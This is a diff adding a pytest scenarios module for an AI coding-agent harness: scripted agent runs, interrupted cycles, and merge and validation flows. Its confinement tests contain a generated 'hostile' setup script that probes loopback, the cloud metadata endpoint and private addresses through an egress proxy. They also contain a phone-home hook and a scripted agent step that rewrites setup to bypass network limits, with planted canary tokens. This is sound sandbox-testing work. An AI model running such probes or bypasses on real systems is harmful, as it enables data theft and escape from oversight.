@@ -1,0 +1,507 @@
+"""The scenarios several modules of this folder share: each played once (``conftest.py``
+makes it a package fixture), each test asserting its own property of what it left. A scenario
+brings its own environment, output and stand-in (``capsys``, ``monkeypatch`` and the autouse
+environment are one test's own) and records what its tests read."""
+
+from __future__ import annotations
+
+import os
+import socket
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from harness.git.repo import GitRepo
+from harness.git.worktrees import WorktreeManager, default_worktree_root
+from harness.model.base import Model, Request, Response
+from harness.model.scripted import ScriptedModel, load_script
+from harness.sandbox.relay import EGRESS_PORT
+from harness.store.db import Store
+from tests.browser.processes import ChromiumWatch
+from tests.cli_helpers import Result, run_cli
+from tests.cli_helpers import spawn as factory
+from tests.factory_repo import git
+from tests.standins.anthropic_standin import AnthropicStandIn
+from tests.validate.conftest import (
+    ISSUES,
+    KEY,
+    Output,
+    file_issues,
+    isolated_env,
+    issue,
+    landed_tested_trees,
+    make_app,
+    queued_together,
+    role_of,
+    run_once,
+    script_rules,
+    serve,
+)
+
+
+@dataclass(frozen=True)
+class FullCycle:
+    """The three demo issues through one cycle, three validations side by side, all joined
+    in the merge queue (in the issues' order) before any builds its candidate
+    (``test_validate.py`` checks the cycle; ``test_test_evidence.py`` the bug fix, #2, that
+    merged in it)."""
+
+    repo: Path
+    state: Path
+    result: dict  # ``factory run --once --json``
+    issues: dict[int, dict]  # each issue after the cycle
+    received: list[dict[str, Any]]  # the bodies of the requests the stand-in answered
+    violations: list[Any]  # what the stand-in found wrong in them
+    report: dict  # ``factory report --json`` of the first validation
+
+
+def play_full_cycle(root: Path) -> FullCycle:
+    state = root / "state"
+    repo, _ = make_app(root)
+    with isolated_env(state) as mp, Output() as out:
+        for server in serve(root, mp):
+            # in the issues' order: the rename (#3, which a journey refuses) comes last, so no
+            # candidate is built on it (one that was would be validated again, on production)
+            queued_together(mp, 3, order=[1, 2, 3])
+            file_issues(out, repo)
+            result = run_once(out, repo, "--max-parallel", "3")
+            received = [body for _, body in server.received]
+            violations = list(server.violations)
+        issues = {n: issue(out, repo, n) for n in (1, 2, 3)}
+        store = Store.open(state)
+        first = store.list_runs(workflow="validate")[0]
+        report = run_cli(out, "--repo", str(repo), "report", first.id, "--json").json()
+        store.close()
+    landed_tested_trees(state)
+    return FullCycle(repo, state, result, issues, received, violations, report)
+
+
+GITHUB_CANARY = "ghp_CANARY0confinement0000000000000000"
+
+
+class Watching:
+    """The demo's scripted answers, with ``on_validator`` run as each request of the sealed
+    validator arrives: its browser has the app open then (it opens the home page before
+    its first turn), and the seal waits for the answer."""
+
+    kind = "scripted"
+
+    def __init__(self, inner: Model, on_validator: Callable[[int], None]) -> None:
+        self.inner, self.on_validator, self.turns = inner, on_validator, 0
+
+    def create(self, request: Request) -> Response:
+        if role_of(request) == "validator":
+            self.turns += 1
+            self.on_validator(self.turns)
+        return self.inner.create(request)
+
+
+@contextmanager
+def watching_standin(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, on_validator: Callable[[int], None]
+) -> Iterator[tuple[AnthropicStandIn, Watching]]:
+    path = tmp_path / "script.yaml"
+    path.write_text(yaml.safe_dump(script_rules()))
+    responder = Watching(ScriptedModel(load_script(path)), on_validator)
+    with AnthropicStandIn(responder=responder) as server:
+        monkeypatch.setenv("ANTHROPIC_BASE_URL", server.url)
+        yield server, responder
+
+
+@dataclass
+class Interrupted:
+    """The issue "how many notes" through three cycles, every Chromium of its journeys and of
+    its validator sampled while it worked (``watch``; the harness's secrets planted as
+    canaries): ``factory stop`` ends the first during its sealed validator's second turn,
+    then ``factory resume``; the second, a ``factory run --once`` in a process of its own, is
+    killed (``kill -9``) inside the smoke run after the merge; the third finishes it.
+    ``test_confinement.py`` and ``test_smoke_kill.py`` each check what they are about."""
+
+    repo: Path
+    state: Path
+    watch: ChromiumWatch
+    turns: int = 0  # the validator's turns, over every cycle
+    first: dict = field(default_factory=dict)  # the first cycle's ``--json``, stopped
+    validator_calls: int = 0  # the validator's requests when it ended
+    labels: list[str] = field(default_factory=list)  # the issue's labels then
+    run: str = ""  # the validation's run then, its status, and its check steps'
+    status: str = ""
+    checks: list[tuple[str, str | None]] = field(default_factory=list)  # (status, error kind)
+    resumed: int = -1  # ``factory resume``'s exit code
+    crashed: tuple[int | None, str] = (None, "")  # the second cycle's exit code and stderr
+    killed: tuple[str, str | None] = ("", None)  # the run's status and step after the kill
+    killed_steps: dict[str, str] = field(default_factory=dict)  # each step's last status then
+    killed_lease: str | None = None  # who held the issue's lease then
+    killed_worktrees: list[str] = field(default_factory=list)  # the factory's worktrees then
+    again: Result | None = None  # the third cycle
+    merged: list[str] = field(default_factory=list)  # the issue's labels after it
+
+
+def play_interrupted(root: Path) -> Interrupted:
+    from harness.browser import runner
+
+    state = root / "state"
+    repo, _ = make_app(root)
+    seen = Interrupted(repo, state, ChromiumWatch())
+    real_step = runner.run_step
+
+    def watched_step(page: Any, step: Any) -> None:
+        real_step(page, step)
+        seen.watch.sample("journey")  # the journey's page is open on the app
+
+    # the harness's secrets, as canaries (``FACTORY_MARKER_KEY`` is every test's)
+    planted = {"GITHUB_TOKEN": GITHUB_CANARY, "ANTHROPIC_API_KEY": KEY}
+    with isolated_env(state, **planted) as mp, Output() as out:
+        env = dict(os.environ)
+
+        def on_validator(turn: int) -> None:
+            seen.watch.sample("validator")
+            if turn == 2:  # the validator is running: its next request must be refused
+                stopped = factory(repo, env, "stop", "--reason", "pulled during the validator")
+                _, err = stopped.communicate(timeout=120)
+                assert stopped.returncode == 0, err
+
+        mp.setattr(runner, "run_step", watched_step)
+        cli = ("--repo", str(repo))
+        with watching_standin(root, mp, on_validator) as (server, watching):
+            file_issues(out, repo, [1])
+            seen.first = run_cli(out, *cli, "run", "--once", "--json").json()
+            seen.validator_calls = len([b for _, b in server.received if role_of(b) == "validator"])
+            seen.labels = issue(out, repo, 1)["labels"]
+            store = Store.open(state)
+            (run,) = store.list_runs(workflow="validate", issue=1)
+            seen.run, seen.status = run.id, run.status
+            check = [s for s in store.steps(run.id) if s.step_id == "check"]
+            seen.checks = [(s.status, s.error_kind) for s in check]
+            seen.resumed = run_cli(out, *cli, "resume").code
+
+            # died inside smoke: app and worktree up
+            fault = {**os.environ, "FACTORY_FAULT_AT": "validate.smoke.serving"}
+            crashed = factory(repo, fault, "run", "--once", "--json")
+            seen.crashed = (crashed.wait(500), crashed.communicate(timeout=60)[1])
+            (killed,) = store.list_runs(workflow="validate", issue=1)
+            seen.killed = (killed.status, killed.current_step)
+            seen.killed_steps = {s.step_id: s.status for s in store.steps(killed.id)}
+            seen.killed_lease = store.lease_holder(1)  # left behind by the dead process
+            manager = WorktreeManager(GitRepo(repo), default_worktree_root(state))
+            seen.killed_worktrees = [p.name for p in manager.list()]
+
+            seen.again = run_cli(out, *cli, "run", "--once", "--json")
+            seen.turns = watching.turns
+        seen.merged = issue(out, repo, 1)["labels"]
+        store.close()
+    landed_tested_trees(state)
+    return seen
+
+
+def phone_home(port: int) -> str:
+    return (
+        "import socket\n"
+        "try:\n"
+        f"    socket.create_connection(('127.0.0.1', {port}), 2).sendall(b'agent code')\n"
+        "    print('REACHED THE HOST')\n"
+        "except OSError as exc:\n"
+        "    print('no network:', exc)\n"
+    )
+
+
+def hostile(port: int) -> str:
+    """A setup script as an agent could leave it on production: it tries the host's
+    loopback, the cloud metadata endpoint and a private address, directly and through the
+    proxy (ignoring NO_PROXY), and always exits 0."""
+    return (
+        "import socket\n"
+        "def direct(host, port):\n"
+        "    try:\n"
+        "        socket.create_connection((host, port), 2).sendall(b'agent code')\n"
+        "        print('REACHED', host, port)\n"
+        "    except OSError as exc:\n"
+        "        print('no route to', host, port, exc)\n"
+        "def proxied(request):\n"
+        "    try:\n"
+        f"        s = socket.create_connection(('127.0.0.1', {EGRESS_PORT}), 5)\n"
+        "        s.sendall(request.encode())\n"
+        "        print('proxy says', s.recv(100).split(b'\\r\\n')[0])\n"
+        "    except OSError as exc:\n"
+        "        print('no proxy', exc)\n"
+        f"for host, port in [('127.0.0.1', {port}), ('169.254.169.254', 80), ('10.0.0.1', 80)]:\n"
+        "    direct(host, port)\n"
+        f"proxied('CONNECT localhost:{port} HTTP/1.1\\r\\nHost: localhost:{port}\\r\\n\\r\\n')\n"
+        "proxied('GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\\r\\n"
+        "Host: 169.254.169.254\\r\\n\\r\\n')\n"
+        "proxied('CONNECT 10.0.0.1:443 HTTP/1.1\\r\\nHost: 10.0.0.1:443\\r\\n\\r\\n')\n"
+    )
+
+
+# Production's own setup script is hostile (merged earlier): every setup of the cycle, which
+# runs production's script through the egress proxy, is refused whatever it tries. The
+# implementer of "how many notes" (the demo's change to the page) also rewrites that script to
+# reach the listener directly: a setup input, so each check of the change sets it up again,
+# offline. ``test_setup_network.py`` checks both; ``test_stories.py`` the story of the change.
+def _count_and_phone_home(port: int) -> dict[str, Any]:
+    return {
+        "output": "finish",
+        "match": "how many notes",
+        "turns": [
+            [
+                {
+                    "tool": "edit_file",
+                    "input": {
+                        "path": "app.py",
+                        "old_text": '        "<h1>Notes</h1>"\n',
+                        "new_text": '        "<h1>Notes</h1>"\n'
+                        "        f'<p id=\"count\">{len(notes)} notes</p>'\n",
+                    },
+                },
+                {
+                    "tool": "write_file",
+                    "input": {"path": "setup_hook.py", "content": phone_home(port)},
+                },
+            ],
+            [{"tool": "finish", "input": {"summary": "Count shown; setup tuned."}}],
+        ],
+    }
+
+
+@dataclass
+class Guarded:
+    repo: Path
+    state: Path
+    port: int
+    got: list[bytes]  # what the listener on the host's loopback received, over everything
+    got_after_doctor: list[bytes] = field(default_factory=list)
+    doctor: Result | None = None  # ``factory doctor --json``, before the cycle
+    doctor_text: Result | None = None  # ``factory doctor``
+    issue: dict = field(default_factory=dict)  # "how many notes" (#1) after the cycle
+    received: list[dict[str, Any]] = field(default_factory=list)  # the stand-in's requests
+    report: Result | None = None  # ``factory report`` of its validation
+
+
+@contextmanager
+def listening() -> Iterator[tuple[int, list[bytes]]]:
+    """A TCP listener on the host's loopback: (port, what it received)."""
+    got: list[bytes] = []
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen()
+    srv.settimeout(0.2)
+    stop = threading.Event()
+
+    def accept() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = srv.accept()
+                got.append(conn.recv(100) or b"connected")
+                conn.close()
+            except OSError:
+                continue
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    try:
+        yield srv.getsockname()[1], got
+    finally:
+        stop.set()
+        thread.join(2)
+        srv.close()
+
+
+def play_guarded(root: Path) -> Guarded:
+    """The setup-network cycle above, after ``factory doctor`` on production."""
+    state = root / "state"
+    repo, _ = make_app(root)
+    with listening() as (port, got), isolated_env(state) as mp, Output() as out:
+        seen = Guarded(repo, state, port, got)
+        (repo / "setup_hook.py").write_text(hostile(port))
+        config = yaml.safe_load((repo / "factory.yaml").read_text())
+        config["commands"]["setup"] = "python3 setup_hook.py"
+        config["commands"]["setup_inputs"] = ["setup_hook.py"]
+        config["network"] = {"allow": [f"localhost:{port}"]}  # a listed name that is loopback
+        (repo / "factory.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
+        git(repo, "add", "-A")
+        git(repo, "commit", "-qm", "setup, as an agent left it")
+
+        seen.doctor = run_cli(out, "--repo", str(repo), "doctor", "--json")
+        seen.doctor_text = run_cli(out, "--repo", str(repo), "doctor")
+        seen.got_after_doctor = list(got)
+        for server in serve(root, mp, [_count_and_phone_home(port)]):
+            file_issues(out, repo, [1])
+            run_once(out, repo)
+            seen.received = [body for _, body in server.received]
+        seen.issue = issue(out, repo, 1)
+        store = Store.open(state)
+        validation = store.list_runs(workflow="validate", issue=1)[0]
+        seen.report = run_cli(out, "--repo", str(repo), "report", validation.id)
+        store.close()
+    landed_tested_trees(state)
+    return seen
+
+
+def verdict_rule(
+    verdict: str, score: float, summary: str, result: str = "pass", match: str = "how many notes"
+) -> dict[str, Any]:
+    """The validator of "how many notes" (or of the issue ``match`` finds): one look at the
+    home page, then its verdict."""
+    criterion = {
+        "criterion": "With no notes, the home page shows the text 0 notes.",
+        "result": result,
+        "evidence": "seen on the home page",
+    }
+    return {
+        "output": "submit_verdict",
+        "match": match,
+        "turns": [
+            [{"tool": "browser_snapshot", "input": {}}],
+            [
+                {
+                    "tool": "submit_verdict",
+                    "input": {
+                        "verdict": verdict,
+                        "score": score,
+                        "summary": summary,
+                        "criteria": [criterion],
+                    },
+                }
+            ],
+        ],
+    }
+
+
+FINISH = {"tool": "finish", "input": {"summary": "Done, with a test."}}
+
+
+def implement_rule(match: str, edits: list[dict[str, str]]) -> dict[str, Any]:
+    return {
+        "output": "finish",
+        "match": match,
+        "turns": [[{"tool": "edit_file", "input": e} for e in edits], [FINISH]],
+    }
+
+
+TABS_FIX = {
+    "path": "app.py",
+    "old_text": '    text = text.strip(" ")',
+    "new_text": "    text = text.strip()",
+}
+COUNT = {
+    "path": "app.py",
+    "old_text": '        "<h1>Notes</h1>"\n',
+    "new_text": '        "<h1>Notes</h1>"\n        f\'<p id="count">{len(notes)} notes</p>\'\n',
+}
+DROP = {
+    "path": "test_app.py",
+    "old_text": '    def test_render_escapes(self):\n        self.assertIn("&lt;b&gt;", '
+    'render(["<b>"]))\n',
+    "new_text": "",
+}
+WEAK = {
+    "path": "test_app.py",
+    "old_text": "    def test_add_note(self):",
+    "new_text": "    def test_spaces_are_refused(self):\n        with self.assertRaises("
+    'ValueError):\n            add_note([], "  ")\n\n    def test_add_note(self):',
+}
+
+# The changes that wait for a person, one issue each, validated one after the other in one
+# cycle (``--max-parallel 1``: none is built on another): "how many notes" scored in the
+# review band (#1), a second wording of it with a criterion the validator could not observe
+# (#2), a third whose implementer deletes an existing test (#3), a bug fix whose new test
+# passes on production (#4), and a button renamed that a hold-out journey clicks (#5).
+WAITING = [
+    ISSUES[0],
+    ("owner", "Show how many notes are kept", "Count them under the heading."),
+    ("owner", "Show how many notes, with the tests tidied", "Count them; tidy the tests."),
+    ISSUES[1],
+    ISSUES[2],
+]
+REVIEW_BAND, UNSEEN, DELETES_A_TEST, WEAK_BUG_TEST, RENAME = range(1, 6)
+
+
+def decisions(state: Path, number: int) -> list[dict[str, Any]]:
+    """The decisions of the validations of ``number``, oldest first."""
+    store = Store.open(state)
+    try:
+        return [
+            s.outputs
+            for r in reversed(store.list_runs(workflow="validate", issue=number))
+            for s in store.steps(r.id)
+            if s.step_id == "decide" and s.status == "succeeded"
+        ]
+    finally:
+        store.close()
+
+
+@dataclass
+class Waiting:
+    """What the cycle of ``WAITING`` left (``first``), what the next cycle left (nothing to do
+    for any of them: ``second``), and, after a maintainer made the hold-out journey click the
+    form's button whatever its word and queued the rename again (``factory retry``), what
+    the cycle after that left (``last``)."""
+
+    repo: Path
+    state: Path
+    first: dict[int, dict] = field(default_factory=dict)  # each issue after the first cycle
+    main_after_first: bytes = b""  # production's app.py then
+    prs_after_first: dict[int, list[str]] = field(default_factory=dict)  # their PRs' states
+    second: dict[int, dict] = field(default_factory=dict)  # each issue after the second
+    implemented: dict[int, int] = field(default_factory=dict)  # implement runs then
+    validated: dict[int, int] = field(default_factory=dict)  # validate runs then
+    prs: dict[int, list[str]] = field(default_factory=dict)  # their PRs' states then
+    decided: dict[int, list[dict[str, Any]]] = field(default_factory=dict)  # decisions then
+    journey_edited: bool = False
+    retried: Result | None = None  # ``factory retry`` of the rename
+    last: dict[int, dict] = field(default_factory=dict)  # each issue after the third cycle
+
+
+def play_waiting(root: Path) -> Waiting:
+    state = root / "state"
+    repo, holdout = make_app(root)
+    seen = Waiting(repo, state)
+    numbers = range(1, len(WAITING) + 1)
+    rules = [
+        verdict_rule("pass", 0.8, "Mostly right.", match="there are"),  # only #1 says so
+        verdict_rule("pass", 0.95, "One criterion cannot be seen.", "not_observable", "are kept"),
+        implement_rule("tests tidied", [COUNT, DROP]),
+        implement_rule("only tabs", [TABS_FIX, WEAK]),
+    ]
+
+    def counts(store: Store, workflow: str) -> dict[int, int]:
+        return {n: len(store.list_runs(workflow=workflow, issue=n)) for n in numbers}
+
+    with isolated_env(state) as mp, Output() as out:
+        cli = ("--repo", str(repo))
+        for _ in serve(root, mp, rules):
+            for author, title, body in WAITING:
+                made = ("issue", "new", "--title", title, "--body", body, "--author", author)
+                assert run_cli(out, *cli, *made).code == 0
+            run_once(out, repo, "--max-parallel", "1")
+            store = Store.open(state)
+            seen.first = {n: issue(out, repo, n) for n in numbers}
+            seen.main_after_first = GitRepo(repo).read_blob("main", "app.py") or b""
+            seen.prs_after_first = {n: [pr.state for pr in store.prs(n)] for n in numbers}
+
+            run_once(out, repo)  # each waits for a person: nothing is validated or implemented
+            seen.second = {n: issue(out, repo, n) for n in numbers}
+            seen.implemented = counts(store, "implement")
+            seen.validated = counts(store, "validate")
+            seen.prs = {n: [pr.state for pr in store.prs(n)] for n in numbers}
+            seen.decided = {n: decisions(state, n) for n in numbers}
+
+            # a maintainer sides with the rename: the journey now clicks the form's button,
+            # whatever its word (it must still pass on production), and queues it again
+            journey = holdout / "journeys" / "add_note.yaml"
+            text = journey.read_text()
+            edited = text.replace('{role: button, name: "Add"}', '{selector: "form button"}')
+            journey.write_text(edited)
+            seen.journey_edited = edited != text
+            seen.retried = run_cli(out, *cli, "retry", str(RENAME))
+            run_once(out, repo)
+            seen.last = {n: issue(out, repo, n) for n in numbers}
+            store.close()
+    landed_tested_trees(state)
+    return seen
